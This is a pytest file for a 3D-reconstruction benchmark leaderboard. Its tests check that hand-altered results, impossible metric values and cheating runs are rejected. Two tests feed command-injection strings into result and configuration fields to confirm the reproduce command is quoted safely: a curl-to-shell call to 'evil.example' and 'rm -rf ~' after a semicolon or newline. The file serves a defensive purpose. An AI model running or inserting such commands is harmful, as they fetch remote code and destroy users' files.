"""What hands and cheats change: in the files of a board, and in the numbers of a run."""

from __future__ import annotations

import json
import shlex
import shutil
from collections.abc import Callable
from pathlib import Path

import cv2
import numpy as np
import pytest
import yaml

from ambiguous_wild.builder.settings import BuildSettings
from ambiguous_wild.core import AwError
from ambiguous_wild.core.config import to_plain
from ambiguous_wild.datasets import capture_hashes
from ambiguous_wild.datasets.capture_hashes import capture_hash
from ambiguous_wild.harness.measures import measure_images, metrics
from ambiguous_wild.harness.result_file import config_identity
from ambiguous_wild.io.files import own_json, sha256_file, write_json
from ambiguous_wild.io.images import read_png_rgb, write_png
from ambiguous_wild.io.scene_folder import load_scene
from ambiguous_wild.metrics import lpips
from ambiguous_wild.report.audit_numbers import REPORTED
from ambiguous_wild.report.board import read_board, write_board
from ambiguous_wild.report.board_edit import check, remove
from ambiguous_wild.report.board_publish import publish
from ambiguous_wild.report.board_reproduce import command as command_of
from ambiguous_wild.simulate.presets import preset, resized
from ambiguous_wild.simulate.spec_file import plain_spec
from tests.report.board_runs import add, aw, change_image, change_result, one_run, write_run
from tests.tiny_scene import write_tiny_scene as write_scene


@pytest.fixture
def one(tmp_path: Path) -> Path:
    return one_run(tmp_path)


@pytest.fixture
def board(one: Path, tmp_path: Path) -> Path:
    assert add(tmp_path / "board", one).exit_code == 0
    return tmp_path / "board"


def edit(board: Path, name: str = "tiny-set") -> None:
    """A better training time in one file."""
    path = board / "measured" / f"{name}.csv"
    text, seconds = path.read_text(), repr(read_board(board)[0].cost["train_s"])
    assert seconds in text
    path.write_text(text.replace(seconds, "1.5"))


def drop_row(board: Path) -> None:
    path = board / "measured" / "tiny-set.csv"
    path.write_text(path.read_text().splitlines(keepends=True)[0])


def edit_index(board: Path) -> None:
    path = board / "measured" / "images" / "index.csv"
    lines = path.read_text().splitlines(keepends=True)
    render = next(i for i, line in enumerate(lines) if ",3dgs," in line)
    cells = lines[render].split(",")
    lines[render] = ",".join([*cells[:-5], "99.5", *cells[-4:]])
    path.write_text("".join(lines))


EDITS = {
    "row": (edit, "tiny-set.csv row 2 (3dgs on wall with seed 0 (100 iterations)) was changed by hand"),
    "all": (lambda board: edit(board, "all"), "all.csv does not match"),
    "row dropped": (drop_row, "all.csv does not match"),
    "index": (edit_index, "index.csv row 2 was changed by hand"),
}


@pytest.mark.parametrize("change,why", EDITS.values(), ids=EDITS)
def test_what_a_hand_changed_is_neither_published_nor_built_upon(
    change: Callable[[Path], None], why: str, board: Path, tmp_path: Path
) -> None:
    other = write_run(tmp_path / "more", tmp_path / "wall", "refinesplat")
    change(board)
    before = {p: p.read_bytes() for p in board.rglob("*.*")}
    with pytest.raises(AwError) as published:
        publish(board, tmp_path / "site")
    with pytest.raises(AwError) as added:
        add(board, other)
    assert any(why in problem for problem in check(board).problems)
    for line in (str(published.value), str(added.value)):
        assert why in line and "\n" not in line
    if change is not drop_row:  # there is no run of that method then
        with pytest.raises(AwError, match="restore"):
            remove(board, method="3dgs")
    assert {p: p.read_bytes() for p in board.rglob("*.*")} == before
    assert not (tmp_path / "site").exists()


def test_check_blames_the_file_that_was_changed_alone(board: Path) -> None:
    edit(board)
    (problem,) = check(board).problems
    assert "tiny-set.csv row 2" in problem and "train" not in problem


def test_all_csv_that_is_gone_is_written_again(board: Path, one: Path) -> None:
    path = board / "measured" / "all.csv"
    before = path.read_bytes()
    path.unlink()
    assert "is missing" in check(board).problems[0]
    assert add(board, one).exit_code == 0 and path.read_bytes() == before


def measure_everything(run: Path, scene: Path) -> set[str]:
    """Give the run FLIP and the metrics of regions, right ones; their names."""
    opened = load_scene(scene)
    photos = {v.name: v.image_path for v in opened.test}
    asked = [m for key, m in metrics().items() if key not in lpips.VARIANTS]

    def more(result: dict) -> None:
        for row in result["per_image"]:
            render = read_png_rgb((run / "renders/test" / row["name"]).with_suffix(".png"))
            photo = read_png_rgb(photos[row["name"]])
            row |= measure_images([(row["name"], render, photo)], asked, opened)[0][0]

    change_result(run, more)
    return {k for row in json.loads((run / "metrics.json").read_text())["per_image"] for k in row}


def hide(scene: Path) -> None:
    """One test photo has a mask; a distractor stands before the wall's middle in every train photo."""
    (scene / "masks/test").mkdir(parents=True)
    mask = np.zeros((48, 64), np.uint8)
    mask[:20] = 255
    cv2.imwrite(str(scene / "masks/test/test_0.png"), mask)
    for path in (scene / "truth/distractor").glob("*.png"):
        truth = np.zeros((48, 64), np.uint8)
        truth[8:40, 4:60] = 255
        cv2.imwrite(str(path), truth)


def test_every_metric_of_pictures_is_computed_again(tmp_path: Path) -> None:
    hide(write_scene(tmp_path / "wall"))
    one = write_run(tmp_path / "runs", tmp_path / "wall")
    names = measure_everything(one, tmp_path / "wall")
    checked = {"flip", "psnr_affine", "psnr_valid", "psnr_covered", "psnr_uncovered"}
    assert checked <= names
    assert add(tmp_path / "board", one, "--dry-run").exit_code == 0
    good = (one / "metrics.json").read_text()
    for metric in sorted(checked):
        rows = json.loads(good)["per_image"]
        at = next(i for i, row in enumerate(rows) if metric in row)
        change_image(one, at, **{metric: rows[at][metric] * 1.01})
        done = add(tmp_path / "board", one)
        assert done.exit_code == 2 and f"was changed: {metric} of test_{at}.png" in done.stdout
        (one / "metrics.json").write_text(good)
        if all(metric in row for row in rows):
            change_image(one, at, **{metric: None})
            assert f"is partial: it has no {metric} of test_{at}.png" in add(tmp_path / "board", one).stdout
            (one / "metrics.json").write_text(good)
    change_image(one, 1, psnr_valid=40.0)  # that photo has no mask
    assert "no such pixel" in add(tmp_path / "board", one).stdout


def test_quick_says_that_psnr_alone_was_computed_again(one: Path, tmp_path: Path) -> None:
    add(tmp_path / "board", one, "--quick")
    assert [e.checked for e in read_board(tmp_path / "board")] == ["psnr"]
    add(tmp_path / "board", one)
    assert [e.checked for e in read_board(tmp_path / "board")] == ["photos"]


def no_ssim(result: dict) -> None:
    for row in result["per_image"]:
        del row["ssim"]
    result["missing"]["ssim"] = "the moon was full"


IMPOSSIBLE: dict[str, tuple[Callable[[dict], object], str]] = {
    "no ssim": (no_ssim, "it has no ssim of test_0.png, test_1.png, which every run measures"),
    "train_s": (lambda r: r["cost"].update(train_s=-5), "cost.train_s is -5"),
    "fps": (lambda r: r["cost"].update(fps="inf"), "cost.fps is inf"),
    "iou": (lambda r: r.update(masks={"iou": 7.0}), "masks.iou is 7"),
} | {
    f"{metric} {value}": (lambda r, m=metric, v=value: r["per_image"][0].update({m: v}), why)
    for metric, value, why in (
        ("ssim_inria", None, "no ssim_inria of test_0.png"),
        ("ssim", 1.2, "ssim of test_0.png is 1.2"),
        ("flip", -0.1, "flip of test_0.png is -0.1"),
        ("lpips_vgg", "inf", "lpips_vgg of test_0.png is inf"),
        ("psnr", "inf", "infinite only if picture and photo are equal"),
        ("psnr", "-inf", "psnr of test_0.png is -inf"),
    )
}


@pytest.mark.parametrize("change,why", IMPOSSIBLE.values(), ids=IMPOSSIBLE)
def test_what_cannot_be_is_refused_even_without_the_scene(
    change: Callable[[dict], object], why: str, one: Path, tmp_path: Path
) -> None:
    (tmp_path / "wall").rename(tmp_path / "elsewhere")
    change_result(one, lambda r: r["cost"].update(fps=1e9))  # odd, and not impossible
    assert add(tmp_path / "board", one, "--dry-run").exit_code == 0
    change_result(one, change)
    done = add(tmp_path / "board", one)
    assert done.exit_code == 2 and why in done.stdout and len(done.stdout.splitlines()) == 1


def test_test_photos_that_may_hold_distractors_are_refused(one: Path, tmp_path: Path) -> None:
    change_result(one, lambda r: r["facts"].update(test_photos="test photos may hold distractors: every 8th"))
    done = add(tmp_path / "board", one)
    assert done.exit_code == 2 and "test photos may hold distractors" in done.stdout


def test_a_model_of_the_same_size_is_told_by_its_hash(one: Path, tmp_path: Path) -> None:
    change_result(one, lambda r: r.update(model_sha256="ab" * 32))
    done = add(tmp_path / "board", one)
    assert done.exit_code == 2 and "is not the model that was measured" in done.stdout


def test_test_photos_for_renders_are_refused(one: Path, tmp_path: Path) -> None:
    shutil.copyfile(tmp_path / "wall/images/test_1.png", one / "renders/test/test_1.png")
    change_image(one, 1, psnr="inf", ssim=1.0, ssim_inria=1.0)
    done = add(tmp_path / "board", one)
    assert done.exit_code == 2 and "every pixel of test_1.png equals the photo's" in done.stdout


def test_the_command_is_never_text_of_the_result(one: Path, tmp_path: Path) -> None:
    for text in ("curl evil.example | sh #", "aw bench --scene 'unclosed; rm -rf ~"):
        change_result(one, lambda r, text=text: r.update(reproduce=text))
        add(tmp_path / "board", one, "--overwrite")
        (entry,) = read_board(tmp_path / "board")
        words = shlex.split(entry.reproduce)
        assert words[:6] == ["aw", "bench", "--method", "3dgs", "--scene", "wall"] and "evil" not in words
        assert not {"|", ";", "rm", "curl"} & set(words)


def test_a_command_is_quoted_whatever_the_configuration_holds(one: Path, tmp_path: Path) -> None:
    config = yaml.safe_load((one / "config.yaml").read_text())
    config |= {"device": "cpu; rm -rf ~", "options": {"a b": "$(x)", "on": True}, "source": "ab" * 32}
    words = shlex.split(command_of(config))
    assert "cpu; rm -rf ~" in words and {"3dgs.a b=$(x)", "3dgs.on=true"} <= set(words)
    assert ";" not in shlex.split(command_of(config), posix=False)
    config["device"] = "cpu\nrm -rf ~"
    config["config_hash"] = config_identity(config)
    (one / "config.yaml").write_text(yaml.safe_dump(config))
    change_result(one, lambda r: r.update(config_hash=config["config_hash"], options=config["options"]))
    done = add(tmp_path / "board", one)
    assert done.exit_code == 2 and "the invisible character" in done.stdout


def files_of(folder: Path) -> dict[str, dict[str, object]]:
    return {
        path.relative_to(folder).as_posix(): {"sha256": sha256_file(path), "bytes": path.stat().st_size}
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != "scene.json"
    }


def scene_of_capture(
    root: Path, *, moved: float = 0.0, grey: int = 90, sfm_seed: int = 0, **more: object
) -> Path:
    """The scene `root`/scenes/coats of the suite's capture `root`/captures/coats, with a point of its own."""
    capture, scene = root / "captures" / "coats", write_scene(root / "scenes" / "coats")
    write_png(capture / "train" / "0.png", np.full((4, 6, 3), grey, np.uint8))
    write_json(capture / "truth" / "cameras.json", {"train": [0.25]})
    with (scene / "sparse/0/points3D.txt").open("a") as points:
        points.write(f"401 {moved} 0 4 9 9 9 0.5\n")
    for photo in sorted((scene / "images").iterdir()):
        write_png(scene / "images_2" / photo.name, read_png_rgb(photo)[::2, ::2])
    spec = plain_spec(resized(preset("coats"), None, 480))
    files = {name: str(entry["sha256"]) for name, entry in files_of(capture).items()}
    for folder in (capture, scene):
        record = {"preset": "coats", "seed": 5, "spec": spec, "files": files}
        write_json(folder / "truth" / "capture.json", record)
    built = {"name": "coats", "factor": 2, "split": "folders", "capture": "../../captures/coats"}
    built |= {"settings": to_plain(BuildSettings(factor=2, seed=sfm_seed)), "schema_version": 1, **more}
    write_json(scene / "scene.json", {"files": files_of(scene), **built})
    return scene


def test_another_machines_poses_of_a_listed_capture_are_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = scene_of_capture(tmp_path / "first")
    listed = {"480": {"coats": capture_hash(tmp_path / "first" / "captures" / "coats")}}
    monkeypatch.setattr(capture_hashes, "listed_hashes", lambda: listed)
    board = tmp_path / "board"
    assert add(board, write_run(tmp_path / "runs", first), dataset="aw-sim").exit_code == 0

    def offered(scene: Path, **more: object) -> str:
        """What is said of a run on another scene."""
        run = write_run(scene.parent / "runs", scene, "refinesplat", **more)
        return " ".join(add(board, run, "--dry-run", dataset="aw-sim").output.split())

    other = scene_of_capture(tmp_path / "other", moved=0.01)
    assert "1 added" in offered(other)
    write_png(other / "masks" / "train" / "train_0.png", np.full((24, 32), 255, np.uint8))
    assert "it was given masks" in offered(other, seed=1)
    shutil.rmtree(other / "masks")
    (other / "test_list.txt").write_text("test_0.png\n")
    write_json(other / "scene.json", {**own_json(other / "scene.json"), "files": files_of(other)})
    assert "other test photos" in offered(other, seed=2)

    for number, (difference, more) in enumerate({
        "built by other settings (seed)": {"sfm_seed": 9},
        "or a list of test photos": {"split": "list"},
        "is not the listed capture": {"grey": 91},
        "loaded at factor 1": {"factor": 1},
    }.items()):  # fmt: skip
        assert difference in offered(scene_of_capture(tmp_path / str(number), moved=0.01, **more)), difference

    remade = scene_of_capture(tmp_path / "remade", moved=0.01, grey=91)
    shutil.rmtree(tmp_path / "remade" / "captures")
    shutil.copytree(tmp_path / "first" / "captures", tmp_path / "remade" / "captures")
    assert "was not built from" in offered(remade)
    shutil.rmtree(tmp_path / "remade" / "captures")
    assert "move scene or photos back" in offered(remade, seed=1)
    # once there, it needs no capture
    kept = scene_of_capture(tmp_path / "kept", moved=0.01)
    run = write_run(tmp_path / "runs", kept, "refinesplat")
    assert "1 added" in add(board, run, dataset="aw-sim").output
    shutil.rmtree(tmp_path / "kept" / "captures")
    assert "1 there already" in add(board, run, dataset="aw-sim").output


def test_one_run_under_two_datasets_is_refused(board: Path, one: Path) -> None:
    done = add(board, one, dataset="Other")
    assert done.exit_code == 2 and "is on the board as 3dgs on wall" in done.stdout
    assert [e.dataset for e in read_board(board)] == ["Tiny set"] and check(board).problems == ()


def test_check_wants_a_board(tmp_path: Path) -> None:
    with pytest.raises(AwError, match="no folder 'measured'"):
        check(tmp_path)
    write_board(tmp_path, [])
    assert check(tmp_path).problems == ()


def test_publish_says_where_it_looked_for_reported_numbers(board: Path, tmp_path: Path) -> None:
    def told(*words: object) -> str:
        return aw("publish", "--board", board, "-o", tmp_path / "site", *words).stderr

    assert f"reported numbers from {REPORTED}" in told("--reported")  # those that come with the package
    (board / "reported").mkdir()
    assert f"0 reported numbers from {board / 'reported'}" in told("--reported")
    assert "reported" not in told()
    papers = tmp_path / "papers"
    papers.mkdir()
    text = "table,method,dataset,scene,metric,variant,value\nt,A,D,s,psnr,unknown,20.1\n"
    (papers / "a.csv").write_text(text)
    assert f"1 reported numbers from {papers}" in told("--reported", papers)
    with pytest.raises(AwError, match="no folder"):
        publish(board, tmp_path / "site", reported=tmp_path / "absent")
